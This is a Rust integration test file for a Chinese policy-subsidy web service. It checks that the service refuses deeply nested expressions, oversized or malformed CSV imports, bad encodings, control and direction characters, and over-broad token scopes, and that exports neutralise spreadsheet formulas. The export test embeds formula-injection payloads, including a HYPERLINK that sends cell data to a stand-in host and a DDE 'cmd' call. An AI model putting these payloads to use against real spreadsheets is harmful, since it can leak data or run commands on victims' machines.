//! Issue 9's defects, each pinned: input that once stopped the server, was accepted or left
//! traces is refused clearly, in the documented format, and leaves nothing behind.

use axum::http::StatusCode;
use serde_json::{Value, json};

use crate::common::{Reply, TestApp};
use huiqi::store::prelude::*;

/// A refusal in the README's shape, with a Chinese message; returns the message.
pub fn documented_error(r: &Reply) -> String {
    let v: Value = r.json();
    let message = v["error"].as_str().unwrap_or_else(|| panic!("no \"error\" in {}", r.text())).to_string();
    assert_eq!(v["status"].as_u64(), Some(u64::from(r.status.as_u16())), "{}", r.text());
    assert!(v["fields"].is_array(), "{}", r.text());
    assert!(message.chars().any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c)), "not Chinese: {message}");
    message
}

fn measure(expr: &str) -> Value {
    json!({
        "name": "研发补助",
        "department": "测试局",
        "mode": "apply",
        "amount": "min(rd_expense * 0.1, 30)",
        "conditions": [{"label": "研发", "expr": expr}]
    })
}

/// The expressions that used to overflow the stack and abort the process.
fn poisons() -> Vec<String> {
    vec![
        format!("rd_ratio{}>0", "+1".repeat(1750)),
        format!("rd_ratio{}>0", "*1".repeat(2000)),
        format!("rd_ratio{}", "<1".repeat(1990)),
        format!("{}rd_ratio{}>0", "(".repeat(1990), ")".repeat(1990)),
        format!("rd_ratio{} > 0", "+1".repeat(200)),
    ]
}

#[tokio::test]
async fn expressions_too_long_or_deep_are_refused_everywhere_with_422() {
    let app = TestApp::with_demo(50);
    let publisher = app.publisher_token("clerk", "测试局");
    for poison in poisons() {
        for (uri, token) in [("/api/v1/simulate", &publisher), ("/api/v1/rules/check", &publisher)] {
            let r = app.json("POST", uri, Some(token), measure(&poison)).await;
            assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{uri}: {}", r.text());
            let message = documented_error(&r);
            assert!(message.contains("过长") || message.contains("过深"), "{uri}: {message}");
        }
        let mut amount = measure("rd_ratio >= 3");
        amount["amount"] = json!(poison.trim_end_matches(">0").trim_end_matches("> 0"));
        let r = app.json("POST", "/api/v1/rules/check", Some(&publisher), amount).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "amount: {}", r.text());
    }
    // Saving a draft with one is refused too, and writes nothing.
    let policy = json!({
        "title": "测试政策", "doc_number": "测试〔2026〕9号", "level": "county", "department": "测试局",
        "issue_date": "2026-01-01", "text": "", "interpretation": "", "tags": []
    });
    let r = app.json("POST", "/api/v1/policies", Some(&publisher), policy).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    let id = r.json()["id"].as_u64().unwrap();
    let before = app.svc().stats().unwrap().measures;
    let r =
        app.json("POST", &format!("/api/v1/policies/{id}/measures"), Some(&publisher), measure(&poisons()[0])).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text());
    assert!(documented_error(&r).contains("过长"));
    assert_eq!(app.svc().stats().unwrap().measures, before);
    // The server still answers.
    assert_eq!(app.get("/healthz").await.status, StatusCode::OK);
}

/// Sends a raw request and reads the reply.
async fn raw(app: &TestApp, method: &str, uri: &str, token: Option<&str>, body: Vec<u8>) -> Reply {
    use axum::body::Body;
    use axum::http::{Request, header};
    let mut req = Request::builder().method(method).uri(uri).header(header::CONTENT_TYPE, "application/json");
    if let Some(t) = token {
        req = req.header(header::AUTHORIZATION, format!("Bearer {t}"));
    }
    app.send(req.body(Body::from(body)).unwrap()).await
}

#[tokio::test]
async fn every_api_refusal_is_json_with_a_chinese_message() {
    let app = TestApp::new();
    let admin = app.admin_token();
    let supervisor = app.token("ducha", huiqi::model::Role::Supervisor, Some("督查局"));
    type Case<'a> = (&'a str, String, Option<&'a str>, Vec<u8>, u16);
    let cases: Vec<Case> = vec![
        ("GET", "/api/v1/match-events?limit=-1".into(), Some(&admin), vec![], 400),
        ("GET", "/api/v1/match-events?after=abc".into(), Some(&admin), vec![], 400),
        ("GET", "/api/v1/cases/abc".into(), Some(&supervisor), vec![], 400),
        ("GET", "/api/v1/cases/99999999999999999999999".into(), Some(&supervisor), vec![], 400),
        ("GET", "/api/v1/imports/-1".into(), Some(&admin), vec![], 400),
        ("PUT", "/api/v1/entities/91230100MA0000001X".into(), Some(&admin), vec![b' '; 3 * 1024 * 1024], 413),
        ("PUT", "/api/v1/catalog".into(), None, vec![], 405),
        ("DELETE", "/api/v1/policies".into(), Some(&admin), vec![], 405),
        ("PATCH", "/api/v1/entities".into(), Some(&admin), vec![], 405),
        ("GET", format!("/api/v1/policies?q={}", "x".repeat(10_000)), None, vec![], 414),
        ("GET", "/api/v1/nothing-here".into(), None, vec![], 404),
        ("POST", "/api/v1/calculator".into(), None, b"{not json".to_vec(), 422),
    ];
    for (method, uri, token, body, want) in cases {
        let r = raw(&app, method, &uri, token, body).await;
        let shown: String = uri.chars().take(60).collect();
        assert_eq!(r.status.as_u16(), want, "{method} {shown}: {}", r.text());
        let message = documented_error(&r);
        assert!(message.chars().count() < 1200, "{method} {shown}: message not bounded");
        if want == 405 {
            let allow = r.headers.get("allow").and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
            assert!(!allow.is_empty() && !allow.contains(method), "{method} {shown}: Allow {allow:?}");
        }
    }
    // Every API route answers an unsupported method with 405 and Allow, in the same shape.
    for spec in huiqi::http::route_specs().iter().filter(|s| s.is_api()) {
        let path = spec.path.replace("{id}", "1").replace("{code}", "91230100MA0000001X").replace(['{', '}'], "");
        let r = raw(&app, "PATCH", &path, Some(&admin), vec![]).await;
        assert_eq!(r.status.as_u16(), 405, "PATCH {path}: {}", r.text());
        documented_error(&r);
    }
}

#[tokio::test]
async fn page_refusals_are_pages() {
    let app = TestApp::with_demo(5);
    for (method, uri, want) in [
        ("GET", "/policies/abc".to_string(), 400),
        ("GET", "/measures/abc".to_string(), 400),
        ("PUT", "/policies".to_string(), 405),
        ("GET", format!("/policies?q={}", "长".repeat(5000)), 414),
        ("GET", "/no-such-page".to_string(), 404),
    ] {
        let r = raw(&app, method, &uri, None, vec![]).await;
        let shown: String = uri.chars().take(40).collect();
        assert_eq!(r.status.as_u16(), want, "{method} {shown}: {}", r.text());
        let ct = r.headers.get("content-type").and_then(|v| v.to_str().ok()).unwrap_or("");
        assert!(ct.starts_with("text/html"), "{method} {shown}: {ct}");
        assert!(r.text().contains("<html"), "{method} {shown}");
    }
}

const HEADER: &str = "统一社会信用代码,名称,所在地,从业人数\n";

fn entity_row(n: u32, name: &str) -> String {
    format!("{},{name},230125,{}\n", crate::common::credit_code(n), 10 + n)
}

fn entity_name(app: &TestApp, n: u32) -> Option<String> {
    let code = crate::common::credit_code(n);
    let tx = app.svc().store.read().unwrap();
    let id = tx.entity_id_by_code(&code).unwrap()?;
    tx.entity(id).unwrap().and_then(|e| e.name)
}

#[tokio::test]
async fn a_refused_import_writes_nothing_but_a_bounded_report() {
    let app = TestApp::new();
    let token = app.admin_token();
    // 30 MB in one cell of a credit-code column, and many good rows around it.
    let mut file = String::from(HEADER);
    for n in 1..=2000 {
        file.push_str(&entity_row(n, "甲公司"));
    }
    file.push_str(&format!("{},乙公司,230125,5\n", "9".repeat(30 * 1024 * 1024)));
    let before = app.svc().store.file_size();
    let r = app.post_bytes("/api/v1/imports?file_name=big.csv", &token, file.into_bytes()).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", &r.text()[..300.min(r.text().len())]);
    assert!(r.body.len() < 64 * 1024, "the answer echoes {} bytes", r.body.len());
    documented_error(&r);
    let issue = &r.json()["report"]["issues"][0];
    assert!(issue["value"].as_str().unwrap().chars().count() < 400, "{issue}");
    assert_eq!(app.svc().stats().unwrap().entities, 0, "nothing written");
    let grown = app.svc().store.file_size().saturating_sub(before);
    assert!(grown < 8 * 1024 * 1024, "the store grew by {grown} bytes");
    // No upload left beside the store either.
    let leftovers = std::fs::read_dir(app.svc().imports_dir()).map(|d| d.count()).unwrap_or(0);
    assert_eq!(leftovers, 0);

    // Many bad rows: the report lists a bounded number and counts the rest.
    let mut file = String::from(HEADER);
    for n in 1..=3000 {
        file.push_str(&format!("BAD{n},{},230125,1\n", "名".repeat(600)));
    }
    let r = app.post_bytes("/api/v1/imports?file_name=bad.csv", &token, file.into_bytes()).await;
    let report = &r.json()["report"];
    assert_eq!(report["invalid"], 3000);
    let listed = report["issues"].as_array().unwrap().len() as u64;
    assert!(listed <= 1000 && listed + report["issues_truncated"].as_u64().unwrap() >= 3000, "{listed}");
    assert!(r.body.len() < 2 * 1024 * 1024, "{} bytes", r.body.len());
}

#[tokio::test]
async fn an_unclosed_quote_never_swallows_rows() {
    let app = TestApp::new();
    let token = app.admin_token();
    let file = format!(
        "{HEADER}{},\"未闭合,230125,3\n{}{}",
        crate::common::credit_code(1),
        entity_row(2, "乙公司"),
        entity_row(3, "丙公司")
    );
    for skip in ["", "&skip_invalid=true"] {
        let r =
            app.post_bytes(&format!("/api/v1/imports?file_name=q.csv{skip}"), &token, file.clone().into_bytes()).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text());
        let text = r.text();
        assert!(text.contains("第 2 行") && text.contains("引号"), "{text}");
        assert_eq!(app.svc().stats().unwrap().entities, 0, "no row merged, none written");
    }
    // Ragged rows: too few cells, or values beyond the header.
    let file = format!(
        "{HEADER}{}{},丁公司\n{},戊公司,230125,5,多出来的\n",
        entity_row(4, "甲公司"),
        crate::common::credit_code(5),
        crate::common::credit_code(6)
    );
    let r = app.post_bytes("/api/v1/imports?file_name=r.csv", &token, file.into_bytes()).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text());
    let issues = r.json()["report"]["issues"].clone();
    let rows: Vec<u64> = issues.as_array().unwrap().iter().map(|i| i["row"].as_u64().unwrap()).collect();
    assert_eq!(rows, [3, 4], "{issues}");
    assert!(issues[0]["reason"].as_str().unwrap().contains("表头有 4 列"), "{issues}");
}

#[tokio::test]
async fn encodings_are_detected_or_refused_by_name() {
    let app = TestApp::new();
    let token = app.admin_token();
    let text = format!("{HEADER}{}", entity_row(1, "Café Müller 哈尔滨有限公司"));
    // UTF-8 with and without BOM, GB18030 (no Latin letters with accents there), UTF-16 LE/BE.
    let mut bom = vec![0xEF, 0xBB, 0xBF];
    bom.extend(text.as_bytes());
    let gb = encoding_rs::GB18030.encode(&format!("{HEADER}{}", entity_row(1, "哈尔滨甲有限公司"))).0.into_owned();
    let mut le = vec![0xFF, 0xFE];
    le.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let mut be = vec![0xFE, 0xFF];
    be.extend(text.encode_utf16().flat_map(u16::to_be_bytes));
    for (label, bytes, name) in [
        ("utf8", text.clone().into_bytes(), "Café Müller 哈尔滨有限公司"),
        ("bom", bom, "Café Müller 哈尔滨有限公司"),
        ("gb", gb, "哈尔滨甲有限公司"),
        ("le", le, "Café Müller 哈尔滨有限公司"),
        ("be", be, "Café Müller 哈尔滨有限公司"),
    ] {
        let r = app.post_bytes(&format!("/api/v1/imports?file_name={label}.csv"), &token, bytes).await;
        assert!(r.status.is_success(), "{label}: {}", r.text());
        assert_eq!(entity_name(&app, 1).as_deref(), Some(name), "{label}");
    }
    // Latin-1 is neither: refused with what to do, nothing stored.
    let row = format!("{},Caf\u{e9} M\u{fc}ller,230125,3\n", crate::common::credit_code(2));
    let latin1: Vec<u8> = row.chars().map(|c| u8::try_from(u32::from(c)).unwrap_or(b'?')).collect();
    let bytes = [HEADER.as_bytes(), &latin1].concat();
    let r = app.post_bytes("/api/v1/imports?file_name=latin1.csv", &token, bytes).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text());
    assert!(r.text().contains("文件编码无法识别，请另存为 UTF-8 或 GB18030"), "{}", r.text());
    assert!(entity_name(&app, 2).is_none());
}

#[tokio::test]
async fn exports_never_carry_live_formulas_and_import_back_unchanged() {
    let app = TestApp::new();
    let token = app.admin_token();
    let names =
        ["=HYPERLINK(\"http://x.example/\"&A1)", "=cmd|' /C calc'!A0", "+SUM(1,2)", "-1+2", "@SUM(A1)", "'=已经带引号"];
    let mut file = String::from(HEADER);
    for (i, name) in names.iter().enumerate() {
        let quoted = format!("\"{}\"", name.replace('"', "\"\""));
        file.push_str(&format!("{},{quoted},230125,3\n", crate::common::credit_code(i as u32 + 1)));
    }
    let r = app.post_bytes("/api/v1/imports?file_name=f.csv", &token, file.into_bytes()).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    let stored: Vec<String> = (1..=names.len() as u32).map(|n| entity_name(&app, n).unwrap()).collect();
    assert_eq!(stored[..5], names[..5], "imported as written");
    for ext in ["csv", "xlsx"] {
        let export = app.get_as(&format!("/api/v1/export/entities.{ext}"), &token).await;
        assert_eq!(export.status, StatusCode::OK);
        let cells: Vec<String> = if ext == "csv" {
            let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(export.body.as_slice());
            r.records().flat_map(|x| x.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect()
        } else {
            use calamine::Reader;
            let mut book: calamine::Xlsx<_> = calamine::Xlsx::new(std::io::Cursor::new(export.body.clone())).unwrap();
            let sheet = book.sheet_names()[0].clone();
            let range = book.worksheet_range(&sheet).unwrap();
            let formulas = book.worksheet_formula(&sheet).unwrap();
            assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no formula cells");
            range.rows().flat_map(|row| row.iter().map(|c| c.to_string()).collect::<Vec<_>>()).collect()
        };
        for cell in &cells {
            let dangerous =
                cell.starts_with(['=', '+', '@']) || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!dangerous, "{ext}: a live formula in the export: {cell}");
        }
        // The export imports back unchanged, names included.
        let r = app.post_bytes(&format!("/api/v1/imports?file_name=back.{ext}"), &token, export.body.clone()).await;
        assert_eq!(r.status, StatusCode::CREATED, "{ext}: {}", r.text());
        assert_eq!(r.json()["report"]["unchanged"], names.len(), "{ext}: {}", r.text());
        let again: Vec<String> = (1..=names.len() as u32).map(|n| entity_name(&app, n).unwrap()).collect();
        assert_eq!(again, stored, "{ext}");
    }
}

#[tokio::test]
async fn control_and_direction_characters_are_refused_with_the_field_named() {
    let app = TestApp::new();
    let token = app.admin_token();
    let code = crate::common::credit_code(1);
    for bad in ["甲\u{202e}公司", "甲\u{200b}公司", "甲\u{0}公司", "甲\u{7}公司"] {
        let body = json!({"name": bad, "region": "230125"});
        let r = app.json("PUT", &format!("/api/v1/entities/{code}"), Some(&token), body).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{bad:?}: {}", r.text());
        let message = documented_error(&r);
        assert!(message.contains("name") || message.contains("名称"), "{message}");
        assert!(message.contains("U+"), "{message}");
        let file = format!("{HEADER}{code},{bad},230125,3\n");
        let r = app.post_bytes("/api/v1/imports?file_name=c.csv", &token, file.into_bytes()).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{bad:?}: {}", r.text());
        assert!(r.text().contains("控制字符"), "{}", r.text());
    }
    assert!(entity_name(&app, 1).is_none(), "nothing stored");
    // Other text through the API: a policy title, an account's name.
    let publisher = app.publisher_token("clerk", "测试局");
    let policy = json!({"title": "政策\u{202e}名称", "doc_number": "x", "level": "county", "department": "测试局",
        "issue_date": "2026-01-01", "text": "", "interpretation": "", "tags": []});
    let r = app.json("POST", "/api/v1/policies", Some(&publisher), policy).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text());
    assert_eq!(r.json()["fields"][0]["field"], "title");
}

#[tokio::test]
async fn a_workbook_with_several_sheets_says_which_one_was_read() {
    let app = TestApp::new();
    let token = app.admin_token();
    let mut book = rust_xlsxwriter::Workbook::new();
    for (i, name) in ["主体", "说明", "旧数据", "草稿", "备份"].iter().enumerate() {
        let sheet = book.add_worksheet().set_name(*name).unwrap();
        sheet.write_string(0, 0, "统一社会信用代码").unwrap();
        sheet.write_string(0, 1, "名称").unwrap();
        sheet.write_string(1, 0, crate::common::credit_code(i as u32 + 1)).unwrap();
        sheet.write_string(1, 1, format!("{name}公司")).unwrap();
    }
    let bytes = book.save_to_buffer().unwrap();
    let r = app.post_bytes("/api/v1/imports?file_name=five.xlsx", &token, bytes).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    let notices = r.json()["report"]["notices"].to_string();
    assert!(notices.contains("5 个工作表") && notices.contains("主体") && notices.contains("备份"), "{notices}");
    assert_eq!(app.svc().stats().unwrap().entities, 1, "the first sheet only");
}

#[tokio::test]
async fn a_token_carries_only_scopes_its_account_holds() {
    let app = TestApp::new();
    let admin = app.admin_token();
    app.account("qiye", huiqi::model::Role::Enterprise, None);
    for scopes in [json!(["admin"]), json!(["enterprise", "entities:write"]), json!(["audit:read"])] {
        let body = json!({"username": "qiye", "name": "对接", "scopes": scopes});
        let r = app.json("POST", "/api/v1/tokens", Some(&admin), body).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{scopes}: {}", r.text());
        assert!(documented_error(&r).contains("企业用户"), "{}", r.text());
    }
    let body = json!({"username": "qiye", "name": "对接", "scopes": ["enterprise"]});
    let r = app.json("POST", "/api/v1/tokens", Some(&admin), body).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
}
